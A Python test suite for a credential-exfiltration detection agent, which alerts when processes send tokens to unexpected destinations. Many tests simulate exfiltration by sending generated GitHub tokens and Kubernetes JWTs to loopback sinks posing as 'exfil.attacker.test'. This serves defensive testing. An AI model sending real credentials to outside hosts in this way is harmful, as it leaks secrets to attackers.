# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
"""Outbound TCP: credentials in what processes send, attributed to the destination."""
import base64
import http.server
import os
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time

from cwtest import (BufferedWriter, Closing, LoopbackServer, assert_copying_stopped, bytes_sent,
                    child_process, conn_entry, github_token, h2_frame, h2_streams, hpack_literal,
                    kernel_map, require_root, running_agent, wait_until)
from receivers import make_pki
from test_workloads import Env, k8s_jwt


class Sink(LoopbackServer):
    """A loopback TCP server that reads whatever comes and answers each request with 200."""

    def handle(self, c):
        with c:
            while True:
                try:
                    data = c.recv(65536)
                except OSError:
                    return
                if not data:
                    return
                if b"\r\n\r\n" in data:
                    c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")


def send_request(port, host, token, pieces=1, family=socket.AF_INET, addr="127.0.0.1"):
    """An HTTP request with the token in an Authorization header, written in `pieces` sends
    (split inside the token when pieces > 1). Returns the client's local port."""
    req = ("GET /v1/user HTTP/1.1\r\nHost: %s\r\nAuthorization: token %s\r\n"
           "User-Agent: cw-test\r\n\r\n" % (host, token)).encode()
    s = socket.socket(family, socket.SOCK_STREAM)
    s.connect((addr, port))
    if pieces == 1:
        s.sendall(req)
    else:
        cut = req.index(token.encode()) + len(token) // 2
        s.send(req[:cut])
        time.sleep(0.05)
        s.send(req[cut:])
    s.recv(4096)
    s.close()


def egress(lines, port):
    return [l for l in lines if l.get("destination", {}).get("port") == port]


def test_unexpected_destination_alert_and_allowed_destination_observation():
    require_root()
    token = github_token()
    with Sink() as sink, running_agent("--include-loopback", "--events") as agent:
        send_request(sink.port, "api.github.com", token)
        send_request(sink.port, "collector.attacker.test", token)
        hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port,
                              count=2)
    assert len(hits) == 2, agent.lines
    ok, bad = hits
    assert ok["event"]["action"] == "credential-sent" and ok["event"]["kind"] == "event"
    assert ok["destination"]["domain"] == "api.github.com"
    assert bad["event"]["action"] == "credential-unexpected-destination"
    assert bad["event"]["kind"] == "alert"
    assert bad["destination"] == {"ip": "127.0.0.1", "port": sink.port,
                                  "domain": "collector.attacker.test"}
    assert bad["network"] == {"transport": "tcp", "direction": "egress", "protocol": "http"}
    assert bad["credwatch"]["tls"] == {"library": "plaintext"}
    assert bad["rule"]["id"] == "github-pat-classic"
    assert bad["credwatch"]["credential"]["fingerprint"] == agent.key.fingerprint(token)
    assert bad["credwatch"]["credential"]["origin"] == "egress"
    assert bad["process"]["pid"] == os.getpid()
    assert bad["process"]["executable"] == os.path.realpath("/proc/self/exe")
    assert bad["threat"]["technique"]["id"] == "NHI-02"
    agent.assert_no_plaintext(token)


API_CLIENT = ("import socket,sys\n"
              "port=int(sys.argv[1]);tok=sys.stdin.readline().strip()\n"
              "s=socket.create_connection(('127.0.0.1',port))\n"
              "s.sendall(('GET /api/v1/pods HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\n"
              "Authorization: Bearer %s\\r\\n\\r\\n'%(port,tok)).encode())\n"
              "s.recv(4096)\n")


def test_service_account_token_to_the_api_server_by_address():
    """client-go's way: to $KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT, an IP, with that
    IP as the Host. The address every pod is given is the API server once two pods were given
    it (one pod naming an address of its choosing whitelists nothing); another port on it is
    not."""
    require_root()
    early, token = k8s_jwt("shop"), k8s_jwt("shop")
    with Sink() as api, Sink() as other, Env() as env:
        agent = env.start("--include-loopback", "--events")
        given = {"KUBERNETES_SERVICE_HOST": "127.0.0.1", "KUBERNETES_SERVICE_PORT": str(api.port)}
        a, b = env.pod("api-client"), env.pod("other")

        def call(tok, port):
            a.run([sys.executable, "-c", API_CLIENT, str(port)], stdin=tok + "\n", env=given)
            fp = agent.key.fingerprint(tok)
            hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == port and
                                  l["credwatch"]["credential"]["fingerprint"] == fp)
            assert hits, agent.stderr()[-1500:]
            return hits[-1]

        # only this pod says the API server is there: not trusted
        first = call(early, api.port)
        assert first["event"]["action"] == "credential-unexpected-destination", first
        # a second pod is given the same address: it is the cluster's
        b.run(["true"], env=given)
        ok = call(token, api.port)
        bad = call(token, other.port)
        agent.stop()
    assert ok["rule"]["id"] == "kubernetes-service-account-token"
    assert ok["event"]["action"] == "credential-sent", ok
    assert ok["destination"]["domain"] == "127.0.0.1"
    assert bad["event"]["action"] == "credential-unexpected-destination", bad
    agent.assert_no_plaintext(token, early)


def one_token_alert(send, *agent_args):
    """An agent watching loopback (and agent_args) and a sink; send(port, token) sends a
    fresh token to the sink. Asserts exactly that token is alerted on, and never in
    plaintext; returns the stopped agent, with that alert as agent.hit (other processes on
    the host may have alerts of their own in agent.lines)."""
    require_root()
    token = github_token()
    with Sink() as sink, running_agent("--include-loopback", *agent_args) as agent:
        send(sink.port, token)
        hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port)
    assert len(hits) == 1, agent.lines
    assert hits[0]["credwatch"]["credential"]["fingerprint"] == agent.key.fingerprint(token)
    agent.assert_no_plaintext(token)
    agent.hit = hits[0]
    return agent


def test_token_split_across_two_writes_is_found():
    one_token_alert(lambda port, token: send_request(port, "exfil.attacker.test", token,
                                                     pieces=2))


def test_token_split_across_the_iovecs_of_sendmsg_and_writev():
    """writev and sendmsg: each iovec is copied in order, a token split between two iovecs
    of one call, or across two calls, is found."""
    def send(port, token):
        s = socket.create_connection(("127.0.0.1", port))
        head = "GET /v1 HTTP/1.1\r\nHost: exfil.attacker.test\r\nAuthorization: token "
        s.sendmsg([head.encode(), token[:10].encode(), token[10:25].encode()])
        os.writev(s.fileno(), [token[25:].encode(), b"\r\n", b"\r\n"])
        s.recv(4096)
        s.close()
    one_token_alert(send)


def test_ipv6_loopback_connection():
    require_root()
    token = github_token()
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s6:
        s6.bind(("::1", 0))
        s6.listen(4)
        port = s6.getsockname()[1]

        def serve():
            c, _ = s6.accept()
            with c:
                c.recv(65536)
                c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
        threading.Thread(target=serve, daemon=True).start()
        with running_agent("--include-loopback") as agent:
            send_request(port, "exfil.attacker.test", token, family=socket.AF_INET6,
                         addr="::1")
            hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == port)
    assert len(hits) == 1, agent.lines
    assert hits[0]["destination"]["ip"] == "::1"


def test_loopback_is_not_watched_by_default():
    require_root()
    token = github_token()
    with Sink() as sink, running_agent("--events") as agent:
        send_request(sink.port, "exfil.attacker.test", token)
        # A marker after it: once the marker's argv alert is out, the request was processed.
        marker = github_token()
        p = subprocess.Popen(["/bin/true", marker])
        p.wait()
        assert agent.wait_for(lambda l: l["process"]["pid"] == p.pid)
    assert not egress(agent.lines, sink.port), agent.lines


def _after_upload(size, send_next):
    """An HTTP/1.1 upload of `size` bytes in 16 KiB writes, past a 64 KiB payload budget, then
    send_next(sock, token) on the same connection. Asserts the one alert is that token's;
    returns the bytes the agent was sent."""
    def send(port, token):
        s = socket.create_connection(("127.0.0.1", port))
        body = b"x" * size
        s.sendall(b"POST /upload HTTP/1.1\r\nHost: exfil.attacker.test\r\nContent-Length: %d"
                  b"\r\n\r\n" % len(body))
        for i in range(0, len(body), 16384):
            s.sendall(body[i:i + 16384])
        s.recv(4096)
        send_next(s, token)
        s.recv(4096)
        s.close()
    agent = one_token_alert(send, "--payload-budget", "64K")
    return bytes_sent(agent)


def test_budget_keeps_catching_headers_after_a_bulk_body():
    """Past the payload budget only the head of each write is copied: a request that starts a
    write after a large upload on the same connection is still seen."""
    def get(s, token):
        s.sendall(("GET /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nAuthorization: token %s"
                   "\r\n\r\n" % token).encode())
    # the bulk body was not copied whole: the agent saw far less than was sent
    sent = _after_upload(200 << 10, get)
    assert sent < 100 << 10, sent


def test_budget_skips_the_middle_of_a_bulk_transfer_not_the_next_request():
    """Past the budget, a large write right after another large one is the middle of a bulk
    transfer and is not copied at all; a large write after a short one (a body after its
    headers) still has its head copied, so a credential there is found."""
    def post(s, token):
        body = (b'{"token": "%s"}' % token.encode()).ljust(16384, b" ")
        s.sendall(b"POST /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nContent-Length: %d"
                  b"\r\n\r\n" % len(body))
        s.sendall(body)
    sent = _after_upload(400 << 10, post)
    # 64 KiB budget, then nothing of the 21 bulk writes that follow a bulk write, then the
    # second request's headers and its body's first KiB: with a 1 KiB head of each bulk
    # write it would be past 85 KiB
    assert sent < (64 << 10) + 4096, sent


def test_budget_catches_a_request_that_shares_a_large_write_with_its_body():
    """A client that writes a request's headers and body in one large write (curl does
    with a --data body under 64 KiB) writes it right after the previous request's large
    writes. It starts with a request line, so it is not taken for the middle of a bulk
    transfer: its head is copied and the credential in it found."""
    def put(s, token):
        body = b"y" * 16384
        s.sendall(b"PUT /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nAuthorization: token %s"
                  b"\r\nContent-Length: %d\r\n\r\n" % (token.encode(), len(body)) + body)
    sent = _after_upload(400 << 10, put)
    # the upload's bulk writes were still skipped: the budget and one 8 KiB request head
    assert sent < (64 << 10) + 8192 + 4096, sent


def test_budget_copies_a_request_head_longer_than_a_kib():
    """Past the budget a write that starts an HTTP/1 request has up to 8 KiB copied, not the
    1 KiB head other writes get: a credential after a long header (cookies, a bearer JWT's
    own length) is found."""
    def get(s, token):
        s.sendall(("GET /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nCookie: session=%s\r\n"
                   "Authorization: token %s\r\n\r\n" % ("c" * 1500, token)).encode())
    _after_upload(200 << 10, get)


def test_budget_does_not_take_words_that_name_a_method_for_a_request():
    """Past the budget the writes of a text upload that begin with a method's name ("GET THE",
    "DELETE FROM") do not start requests: a request line has a request target after the
    method. They are the middle of a bulk transfer and are not copied."""
    line = b"GET THE ROWS; DELETE FROM T; PUT IT BACK; POST IT; "
    chunk = (line * (16384 // len(line) + 1))[:16384]

    def more(s, token):
        for _ in range(20):
            s.sendall(chunk)
        s.sendall(("GET /next HTTP/1.1\r\nHost: exfil.attacker.test\r\n"
                   "Authorization: token %s\r\n\r\n" % token).encode())
    sent = _after_upload(128 << 10, more)
    # the budget and the request: an 8 KiB head of each of the 20 text writes would be 160 KiB
    assert sent < (64 << 10) + 4096, sent


def _client_hello():
    """A real TLS ClientHello, as a client's first write on a connection."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname="uploads.example.test")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    assert hello[:1] == b"\x16", hello[:8]
    return hello


def test_client_hello_after_an_empty_iovec_stops_capture():
    """A ClientHello sent with sendmsg() whose first iovec is empty is still a TLS
    connection's start: the kernel looks at the first iovec with bytes in it, copies the
    ClientHello and nothing of the ciphertext that follows."""
    require_root()
    with (running_agent("--include-loopback") as agent, Sink() as sink,
          socket.create_connection(("127.0.0.1", sink.port)) as s):
        s.sendmsg([b"", _client_hello()])
        for _ in range(16):
            s.sendmsg([b"", b"\x17\x03\x03" + os.urandom(16381)])
        entry = conn_entry(agent, s)
    assert_copying_stopped(entry)


def test_budget_catches_h2c_headers_that_start_a_large_write():
    """HTTP/2 over plain TCP: past the budget, a large write that starts with a HEADERS frame
    (a new request, its DATA in the same write) after the DATA frames of an upload is a
    request, not the upload's middle: the whole frame is copied (it is longer than the 1 KiB
    head), and the decoder, told of the hole, starts at that frame."""
    def send(port, token):
        s = socket.create_connection(("127.0.0.1", port))
        authority = hpack_literal(b":authority", b"exfil.attacker.test")
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
        s.sendall(h2_frame(1, 4, 1, authority))
        data = h2_frame(0, 0, 1, b"u" * 16384)
        for _ in range(30):
            s.sendall(data)
        # a HEADERS frame longer than the 1 KiB head: copied whole
        request = h2_frame(1, 4, 3, authority + hpack_literal(b"cookie", b"c" * 1500) +
                            hpack_literal(b"authorization", b"token " + token.encode()))
        s.sendall(request + h2_frame(0, 1, 3, b"v" * 16384))
        time.sleep(0.2)
        s.close()
    agent = one_token_alert(send, "--payload-budget", "64K")
    sent = bytes_sent(agent)
    # the budget, then nothing of the 26 DATA writes past it: with a 1 KiB head of each it
    # would be past 90 KiB
    assert sent < (64 << 10) + 16384 + 4096, sent


H2_AUTHORITY = hpack_literal(b":authority", b"exfil.attacker.test")


def _h2c_request(token, cookie=1500):
    """A header block for stream 3 with the token after a cookie of `cookie` bytes."""
    return H2_AUTHORITY + hpack_literal(b"cookie", b"c" * cookie) + \
        hpack_literal(b"authorization", b"token " + token.encode())


def _h2c_after_upload(send_next, budget="64K", upload=30, lost=0):
    """An h2c connection that uploads `upload` DATA frames of 16 KiB on stream 1 (past a 64 KiB
    payload budget by default), then send_next(sock, request, token) with request a HEADERS
    frame of stream 3 whose token (after a 1500-byte cookie) must be alerted on, by the h2
    decoder (network.protocol http2). `lost`: how many streams the kernel is to lose track of
    (1: the stream stops being followed and is handled by the guess from a write's start).
    Returns the bytes the agent was sent."""
    def send(port, token):
        s = socket.create_connection(("127.0.0.1", port))
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
        s.sendall(h2_frame(1, 4, 1, H2_AUTHORITY))
        data = h2_frame(0, 0, 1, b"u" * 16384)
        for _ in range(upload):
            s.sendall(data)
        send_next(s, h2_frame(1, 5, 3, _h2c_request(token)), token)
        time.sleep(0.2)
        s.close()
    agent = one_token_alert(send, "--payload-budget", budget)
    assert agent.hit["network"].get("protocol") == "http2", agent.hit
    # followed from the preface to the end (other processes' streams may count too)
    followed, lost_track = h2_streams(agent)
    assert followed >= 1 and lost_track == lost, agent.stderr()
    return bytes_sent(agent)


def test_budget_copies_a_header_block_split_into_headers_and_continuation():
    """A header block longer than a frame (a 20 KB cookie) is a HEADERS frame of the maximum
    size and a CONTINUATION frame, in one write past the budget: both are copied whole (a
    header block frame may be longer than the payload cap) and joined, so the token in the
    CONTINUATION frame is decoded."""
    def split_block(s, request, token):
        block = _h2c_request(token, cookie=20000)
        s.sendall(h2_frame(0, 1, 1, b"u" * 100) + h2_frame(1, 1, 3, block[:16384]) +
                  h2_frame(9, 4, 3, block[16384:]) + h2_frame(0, 1, 3, b"v" * 100))
    _h2c_after_upload(split_block)


def test_budget_copies_a_headers_frame_of_the_maximum_size_whole():
    """A HEADERS frame of 16384 bytes (frame header included: 16393) with the token at its end,
    past the budget: copied to its last byte."""
    def full_frame(s, request, token):
        short = _h2c_request(token, cookie=0)
        block = _h2c_request(token, cookie=16384 - len(short) - 2)
        assert len(block) == 16384, len(block)
        s.sendall(h2_frame(0, 1, 1, b"u" * 100) + h2_frame(1, 5, 3, block))
    _h2c_after_upload(full_frame)


def test_budget_copies_the_start_of_a_body_in_the_write_after_its_headers():
    """Past the budget, a request's HEADERS frame ends one write and its body (a token in
    JSON) starts the next: the 1 KiB after a HEADERS frame is copied wherever it is."""
    def body_next(s, request, token):
        s.sendall(h2_frame(0, 1, 1, b"u" * 16384) + h2_frame(1, 4, 3, H2_AUTHORITY))
        s.sendall(h2_frame(0, 1, 3, b'{"token": "%s"}' % token.encode()))
    _h2c_after_upload(body_next)


def test_h2c_frames_followed_after_a_write_longer_than_the_cap():
    """Within the budget a write longer than the payload cap is copied in part; the next write
    starts in the middle of that write's DATA frame. Its copy starts at the next frame (a
    HEADERS frame), so the decoder stays in step and decodes the token."""
    def after_long_write(s, request, token):
        frame = h2_frame(0, 0, 1, b"w" * 30000)
        s.sendall(frame[:20009])
        s.sendall(frame[20009:] + request)
    _h2c_after_upload(after_long_write, budget="1M", upload=0)


def test_budget_follows_h2c_frame_headers_cut_by_a_write():
    """A frame header cut by a write's end is completed by the next write: the frames stay
    followed past a DATA frame header cut that way, and a HEADERS frame whose header starts
    at the end of one write and ends in the next is copied whole, its first bytes included."""
    def cut(s, request, token):
        data = h2_frame(0, 0, 1, b"u" * 16384)
        s.sendall(data + data[:5])	# a DATA frame header cut after 5 bytes
        s.sendall(data[5:])
        s.sendall(data + request[:4])	# the HEADERS frame's header cut after 4 bytes
        s.sendall(request[4:] + h2_frame(0, 1, 3, b"v" * 100))
    sent = _h2c_after_upload(cut)
    assert sent < (64 << 10) + 8192, sent


def test_budget_follows_h2c_frames_after_a_header_cut_after_eight_bytes():
    """A frame header cut one byte short of its end (eight bytes in one write, one in the next)
    is put together right: the frames after it stay followed, and a HEADERS frame after a
    write that starts in the middle of a DATA frame is found."""
    def cut_eight(s, request, token):
        data = h2_frame(0, 0, 1, b"u" * 16384)
        other = h2_frame(1, 5, 5, H2_AUTHORITY + hpack_literal(b"x-request", b"1"))
        s.sendall(data + other[:8])
        s.sendall(other[8:] + data[:100])
        s.sendall(data[100:] + request)
    _h2c_after_upload(cut_eight)


def test_budget_catches_h2c_headers_after_the_last_data_frame_in_one_write():
    """An h2 client writes whatever frames are ready at once: an upload's last DATA frame and
    the next request's HEADERS frame in one large write right after the upload's. Past the
    budget the kernel looks past the frames that start the write, finds the HEADERS frame
    and copies that frame alone (the agent's decoder resumes at it)."""
    def last_data_then_request(s, request, token):
        s.sendall(h2_frame(0, 1, 1, b"u" * 16384) + request)
    sent = _h2c_after_upload(last_data_then_request)
    # the budget and the HEADERS frame, not the DATA frame before it
    assert sent < (64 << 10) + 4096, sent


def test_budget_catches_h2c_headers_deep_in_the_first_iovec_of_sendmsg():
    """The same through sendmsg() with more than one iovec, which stops the frames being
    followed: the HEADERS frame is looked for in the first non-empty iovec, after the DATA
    frame that starts it; the frame alone is copied."""
    def last_data_then_request(s, request, token):
        s.sendmsg([b"", h2_frame(0, 1, 1, b"u" * 16384) + request, h2_frame(8, 0, 0,
                                                                           b"\0\0\1\0")])
    sent = _h2c_after_upload(last_data_then_request, lost=1)
    assert sent < (64 << 10) + 4096, sent


def test_budget_follows_h2c_frames_across_writes_cut_anywhere():
    """An h2 client whose writes are a 4 KiB buffer flushed when full: past the budget a
    request's HEADERS frame starts in the middle of a write and ends in the next. The kernel
    has followed the frames from the preface on, so it copies that frame wherever it is, and
    nothing of the upload's DATA frames."""
    def send(port, token):
        s = socket.create_connection(("127.0.0.1", port))
        w = BufferedWriter(s, 4096)
        authority = hpack_literal(b":authority", b"exfil.attacker.test")
        w.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
        w.write(h2_frame(1, 4, 1, authority))
        for _ in range(60):
            w.write(h2_frame(0, 0, 1, b"u" * 5000))
        w.write(h2_frame(8, 0, 0, b"\0\1\0\0"))
        w.write(h2_frame(1, 4, 3, authority + hpack_literal(b"cookie", b"c" * 1500) +
                         hpack_literal(b"authorization", b"token " + token.encode())))
        w.write(h2_frame(0, 1, 3, b"v" * 3000))
        w.flush()
        time.sleep(0.2)
        s.close()
    agent = one_token_alert(send, "--payload-budget", "64K")
    sent = bytes_sent(agent)
    # the budget and the HEADERS frame with the 1 KiB after it, not 236 KiB of DATA
    assert sent < (64 << 10) + 8192, sent


def test_budget_follows_more_h2c_frames_in_one_write_than_a_guess_would_look_at():
    """Past the budget, one write of forty small DATA frames then a HEADERS frame: found by
    following the frames, however many come before it in the write."""
    def send(port, token):
        s = socket.create_connection(("127.0.0.1", port))
        authority = hpack_literal(b":authority", b"exfil.attacker.test")
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
        s.sendall(h2_frame(1, 4, 1, authority))
        for _ in range(30):
            s.sendall(h2_frame(0, 0, 1, b"u" * 16384))
        s.sendall(b"".join(h2_frame(0, 0, 1, b"w" * 100) for _ in range(40)) +
                  h2_frame(1, 5, 3, authority + hpack_literal(b"authorization",
                                                              b"token " + token.encode())))
        time.sleep(0.2)
        s.close()
    one_token_alert(send, "--payload-budget", "64K")


def test_budget_catches_h2c_headers_after_control_frames_in_one_write():
    """A write that starts with control frames (a SETTINGS ack, WINDOW_UPDATE) and then a
    HEADERS frame longer than the 1 KiB head: copied from the write's start to the frame's
    end, so the token after a long cookie is found."""
    def control_then_request(s, request, token):
        s.sendall(h2_frame(4, 1, 0, b"") + h2_frame(8, 0, 0, b"\0\1\0\0") + request)
    _h2c_after_upload(control_then_request)


def _kernel_conns(agent):
    """The (tgid, fd) pairs in this agent's kernel table of tracked connections."""
    return {(e["key"]["tgid"], e["key"]["fd"]) for e in kernel_map(agent, "conns")}


CONNECT_AND_DIE = r"""
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
s.sendall(b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n")
print(s.fileno(), flush=True)
sys.stdin.readline()
os._exit(0)    # no close(): the kernel closes the socket with the process
"""


def test_connection_of_a_process_that_exits_without_close_is_forgotten_in_the_kernel():
    """A process that ends without closing its socket makes no close() the probes see: the
    agent deletes the kernel's entry when it learns of the exit, so that a later process with
    the same pid and fd is not taken for that connection (and the write probes' filter slot
    comes down)."""
    require_root()
    with (Sink() as sink, running_agent("--include-loopback") as agent,
          child_process([sys.executable, "-c", CONNECT_AND_DIE, str(sink.port)],
                        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as child):
        key = (child.pid, int(child.stdout.readline()))
        assert key in _kernel_conns(agent), "the connection was never tracked"
        child.stdin.write("\n")
        child.stdin.flush()
        child.wait()
        assert wait_until(lambda: key not in _kernel_conns(agent), 5), \
            "still tracked after the process ended"


CONNECT_AND_EXEC = r"""
import os, socket, sys
# connected as fd 100: far from the numbers the new image's start-up opens and closes
first = socket.socket()
os.dup2(first.fileno(), 100, inheritable=False)
first.close()
s = socket.socket(fileno=100)
s.connect(("127.0.0.1", int(sys.argv[1])))
s.sendall(b"GET / HTTP/1.1\r\nHost: exfil.attacker.test\r\n\r\n")
s.recv(4096)
print("connected", flush=True)
sys.stdin.readline()
# the socket is close-on-exec: the new image finds its fd number free
os.execv(sys.executable, [sys.executable, "-c", sys.argv[2], str(s.fileno()), *sys.argv[3:]])
"""

WRITE_A_FILE_AT_THAT_FD = r"""
import os, sys
fd, path = int(sys.argv[1]), sys.argv[2]
with open(sys.argv[3]) as t:
    token = t.read().strip()
f = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
os.dup2(f, fd)
os.write(fd, ("GET /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nAuthorization: token %s"
              "\r\n\r\n" % token).encode())
print("written", flush=True)
sys.stdin.readline()
"""


def test_socket_closed_on_exec_is_not_taken_for_the_file_at_its_fd_number():
    """A close-on-exec socket goes with exec without a close() the probes see. The new image's
    writes to another file at the same fd number are not the connection's egress: no alert,
    and the kernel's entry is gone."""
    require_root()
    token = github_token()
    with (Sink() as sink, running_agent("--include-loopback") as agent,
          tempfile.TemporaryDirectory() as d):
        with open(os.path.join(d, "token"), "w") as f:
            f.write(token)
        with child_process([sys.executable, "-c", CONNECT_AND_EXEC, str(sink.port),
                            WRITE_A_FILE_AT_THAT_FD, os.path.join(d, "out.txt"),
                            os.path.join(d, "token")],
                           stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as child:
            assert child.stdout.readline().strip() == "connected"
            assert (child.pid, 100) in _kernel_conns(agent), "the connection was never tracked"
            child.stdin.write("exec\n")
            child.stdin.flush()
            assert child.stdout.readline().strip() == "written"
            with open(os.path.join(d, "out.txt")) as f:
                assert token in f.read()	# the write happened, at that fd
            time.sleep(1.5)	# the agent drains every 100 ms
            tracked = {k for k in _kernel_conns(agent) if k[0] == child.pid}
            child.stdin.write("\n")
            child.stdin.flush()
            child.wait()
    assert not egress(agent.lines, sink.port), agent.lines
    assert not tracked, tracked
    agent.assert_no_plaintext(token)



MAIN_THREAD_EXITS_FIRST = r"""
#include <arpa/inet.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int port, ready[2];
static char req[512];

static void *sender(void *arg)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
	int s = socket(AF_INET, SOCK_STREAM, 0);
	char buf[256];

	(void)arg;
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof(a)) || write(ready[1], "c", 1) != 1)
		exit(2);
	sleep(1);	/* the first thread is gone by now, and the agent has heard of it */
	printf("%d\n", s);
	fflush(stdout);
	if (write(s, req, strlen(req)) < 0 || read(s, buf, sizeof(buf)) < 0)
		exit(3);
	sleep(2);	/* still running while the test looks */
	return NULL;
}

int main(int argc, char **argv)
{
	FILE *f = argc > 2 ? fopen(argv[2], "r") : NULL;
	char token[128] = "";
	pthread_t t;

	if (!f || !fgets(token, sizeof(token), f))
		return 1;
	token[strcspn(token, "\n")] = 0;
	port = atoi(argv[1]);
	snprintf(req, sizeof(req), "GET /v1 HTTP/1.1\r\nHost: exfil.attacker.test\r\n"
		 "Authorization: token %s\r\n\r\n", token);
	if (pipe(ready) || pthread_create(&t, NULL, sender, NULL) || read(ready[0], token, 1) != 1)
		return 1;
	pthread_exit(NULL);	/* the process lives on in the other thread */
}
"""


def test_process_whose_first_thread_exits_early_is_still_watched():
    """A process ends with its last thread: when main() calls pthread_exit, the connection
    another thread made is still tracked, and the token it sends later is alerted on."""
    require_root()
    token = github_token()
    with (tempfile.TemporaryDirectory() as d, Sink() as sink,
          running_agent("--include-loopback") as agent):
        src, exe, tok = (os.path.join(d, n) for n in ("t.c", "t", "token"))
        with open(src, "w") as f:
            f.write(MAIN_THREAD_EXITS_FIRST)
        with open(tok, "w") as f:
            f.write(token)
        subprocess.run(["cc", "-O1", "-pthread", "-o", exe, src], check=True)
        with child_process([exe, str(sink.port), tok], stdout=subprocess.PIPE,
                           text=True) as child:
            fd = int(child.stdout.readline())	# its first thread left a second ago
            time.sleep(0.3)	# the agent drains every 100 ms; the process lives 2 s more
            assert (child.pid, fd) in _kernel_conns(agent), "forgotten while the process runs"
            hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port)
            assert child.wait(timeout=30) == 0
    assert len(hits) == 1, agent.lines
    assert hits[0]["credwatch"]["credential"]["fingerprint"] == agent.key.fingerprint(token)
    agent.assert_no_plaintext(token)


class GitHost(Closing):
    """A git host over HTTPS on loopback (a throwaway CA's certificate for 127.0.0.1) that asks
    for Basic credentials, as GitHub Enterprise or a Gitea would; it records each request's
    Authorization header and has no repository (the clone fails after authenticating)."""

    def __init__(self, pki):
        host = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                auth = self.headers.get("Authorization")
                with host.lock:
                    host.auths.append(auth)
                if not auth:
                    self.send_response(401)
                    self.send_header("WWW-Authenticate", 'Basic realm="git"')
                else:
                    self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.lock, self.auths = threading.Lock(), []
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(os.path.join(pki, "server.pem"), os.path.join(pki, "server.key"))
        self.server.socket = ctx.wrap_socket(self.server.socket, server_side=True)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def test_git_credential_store_token_sent_in_basic_auth_to_another_host():
    """`git clone` the way people run it: the token comes from git's credential store
    (`credential.helper=store`, ~/.git-credentials), git-remote-https sends it in an
    `Authorization: Basic base64(user:token)` header over TLS (libcurl on GnuTLS) to a host that
    is not GitHub's. The GitHub token inside the Basic credentials is a GitHub token: its
    destinations are GitHub's, so this is credential-unexpected-destination for the GitHub rule,
    found through the Basic layer."""
    require_root()
    token = github_token()
    with tempfile.TemporaryDirectory() as home:
        pki = os.path.join(home, "pki")
        os.mkdir(pki)
        make_pki(pki)
        with GitHost(pki) as git_host:
            url = f"https://127.0.0.1:{git_host.port}"
            fd = os.open(os.path.join(home, ".git-credentials"), os.O_WRONLY | os.O_CREAT, 0o600)
            os.write(fd, f"https://build-bot:{token}@127.0.0.1:{git_host.port}\n".encode())
            os.close(fd)
            with open(os.path.join(home, ".gitconfig"), "w") as f:
                f.write("[credential]\n\thelper = store\n")
            env = dict(os.environ, HOME=home, GIT_TERMINAL_PROMPT="0",
                       GIT_SSL_CAINFO=os.path.join(pki, "ca.pem"), GIT_CONFIG_NOSYSTEM="1")
            with running_agent("--include-loopback") as agent:
                clone = subprocess.run(["git", "clone", "-q", f"{url}/team/app.git",
                                        os.path.join(home, "app")],
                                       env=env, capture_output=True, timeout=60)
                hits = agent.wait_for(
                    lambda l: l.get("destination", {}).get("port") == git_host.port)
                agent.stop()
    with git_host.lock:
        sent = [a for a in git_host.auths if a]
    assert sent, ("git never sent credentials", clone.stderr.decode()[-500:])
    assert base64.b64decode(sent[0].split()[1]).decode() == f"build-bot:{token}"
    assert hits, agent.stderr()[-1500:]
    bad = hits[0]
    assert bad["event"]["action"] == "credential-unexpected-destination", bad
    assert bad["rule"]["id"] == "github-pat-classic", bad
    assert bad["credwatch"]["credential"]["fingerprint"] == agent.key.fingerprint(token)
    assert "basic-auth" in bad["credwatch"]["credential"]["encoding"], bad
    assert bad["credwatch"]["tls"]["library"] == "gnutls", bad
    # git-remote-https is a link to git-remote-http
    assert os.path.basename(bad["process"]["executable"]) == "git-remote-http", bad
    agent.assert_no_plaintext(token, base64.b64encode(f"build-bot:{token}".encode()).decode())
